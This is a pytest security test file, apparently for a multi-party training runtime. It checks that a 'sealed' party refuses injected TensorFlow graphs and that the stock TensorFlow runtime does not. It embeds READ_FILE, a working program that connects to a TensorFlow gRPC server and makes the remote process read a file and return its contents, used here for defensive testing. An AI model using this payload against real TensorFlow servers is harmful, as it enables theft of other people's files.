"""No party can have another run something: there is nothing that would.

The published walk-through's runtime listens for graphs and runs them. The attack that succeeds
there, and with ``--runtime tensorflow`` here, is tried on the sealed runtime.
"""

from __future__ import annotations

import contextlib
import re
import subprocess
import sys
from pathlib import Path

import pytest

from tests.attacks.conftest import Tried
from tests.attacks.siege import Siege, speak
from tests.runtime.scene import ENDLESS, PATIENCE_S, Running

READ_FILE = """
import sys
import tensorflow as tf
v1 = tf.compat.v1
v1.disable_eager_execution()
with tf.device("/job:tfe/task:1"):
    stolen = tf.io.read_file(sys.argv[2])
config = v1.ConfigProto(device_filters=["/job:tfe/task:1"], operation_timeout_in_ms=15000)
with v1.Session("grpc://" + sys.argv[1], config=config) as session:
    print(session.run(stolen).decode())
"""
"""A stranger's program: has Bob's process read a file and send it."""

HTTP2 = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + bytes([0, 0, 0, 4, 0, 0, 0, 0, 0])
"""How a client of TensorFlow's servers begins."""


def inject(siege: Siege) -> subprocess.CompletedProcess[str]:
    """What the stranger gets of Bob."""
    command = [sys.executable, "-c", READ_FILE, str(siege.address("bob"))]
    command.append(str(siege.directory / "bob.csv"))
    return subprocess.run(command, capture_output=True, text=True, timeout=PATIENCE_S)


def listening(running: Running) -> set[int]:
    """The TCP ports on which a party's process and its children listen."""
    own = Path(f"/proc/{running.process.pid}")
    pids = [own.name, *(own / "task" / own.name / "children").read_text().split()]
    sockets = set()
    for pid in pids:
        for descriptor in Path(f"/proc/{pid}/fd").iterdir():
            with contextlib.suppress(OSError):
                if found := re.fullmatch(r"socket:\[(\d+)\]", str(descriptor.readlink())):
                    sockets.add(found[1])
    ports = set()
    for table in ("tcp", "tcp6"):
        for line in (own / "net" / table).read_text().splitlines()[1:]:
            fields = line.split()
            if fields[3] == "0A" and fields[9] in sockets:
                ports.add(int(fields[1].rpartition(":")[2], 16))
    return ports


@pytest.mark.slow
def test_a_sealed_party_listens_for_its_peers_alone_and_runs_nothing(
    tmp_path: Path, cache: Path, tried: Tried
) -> None:
    siege = Siege(tmp_path, cache, **ENDLESS)
    try:
        (bob,) = siege.waits("bob")
        assert listening(bob) == {siege.address("bob").port}
        speak(siege.address("bob"), HTTP2).gave_nothing_away()
        got = inject(siege)
        assert got.returncode != 0
        assert got.stdout == ""

        alice, server = siege.start("alice"), siege.start("server")
        for one in (alice, bob, server):
            one.reaches("running", step=10)
            assert listening(one) <= {siege.address(one.party).port}
        got = inject(siege)
        assert got.returncode != 0
        assert got.stdout == ""
        assert bob.process.poll() is None, "it trains on"
        tried(2, "graphs sent to a sealed party")
    finally:
        siege.close()


@pytest.mark.slow
def test_the_tensorflow_runtime_loses_to_the_same_attack(tmp_path: Path, cache: Path) -> None:
    """As its documentation says: the test of the test."""
    siege = Siege(tmp_path, cache, **ENDLESS)
    try:
        _, bob, _ = siege.start_all("--runtime", "tensorflow")
        bob.reaches("running")
        assert inject(siege).stdout.strip() == (tmp_path / "bob.csv").read_text().strip()
    finally:
        siege.close()
